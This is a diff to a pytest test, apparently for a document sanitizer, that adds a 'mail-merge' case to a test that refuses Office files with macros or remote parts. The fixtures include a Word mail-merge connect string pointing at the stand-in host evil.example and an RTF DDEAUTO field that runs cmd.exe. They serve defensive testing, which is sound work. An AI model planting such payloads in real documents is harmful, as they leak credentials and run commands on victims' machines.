@@ -593,7 +593,7 @@ def _with_attached_template(part: str, data: bytes) -> bytes:
 
 
 @pytest.mark.parametrize("case", ["remote-template", "macros", "macro-content-type", "external-picture", "activex",
-                                  "embedded-rtf-document", "embedded-html-document"])
+                                  "embedded-rtf-document", "embedded-html-document", "mail-merge"])
 def test_an_office_file_with_macros_or_a_remote_part_is_refused(fixture_content, case):
     """A template fetched from the network or macros run when the file is opened, or a document
     embedded whole (altChunk), which Word converts when the file opens: an RTF's DDEAUTO field
@@ -612,6 +612,11 @@ def test_an_office_file_with_macros_or_a_remote_part_is_refused(fixture_content,
                         'TargetMode="External"/></Relationships>').encode()
         data = _rezipped(kind, name, lambda part, data: data.replace(b"</Relationships>", relationship)
                          if part == "ppt/slides/_rels/slide1.xml.rels" else data)
+    elif case == "mail-merge":
+        merge = (b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
+                 b'<w:connectString w:val="Provider=SQLOLEDB;Data Source=\\\\evil.example\\x"/>'
+                 b'<w:query w:val="SELECT * FROM x"/></w:mailMerge><w:zoom')
+        data = _rezipped(kind, name, lambda part, data: data.replace(b"<w:zoom", merge, 1) if part == "word/settings.xml" else data)
     elif case.startswith("embedded-"):
         part, chunk = (("chunk.rtf", rb'{\rtf1{\field{\*\fldinst {DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}}}}')
                        if case == "embedded-rtf-document" else
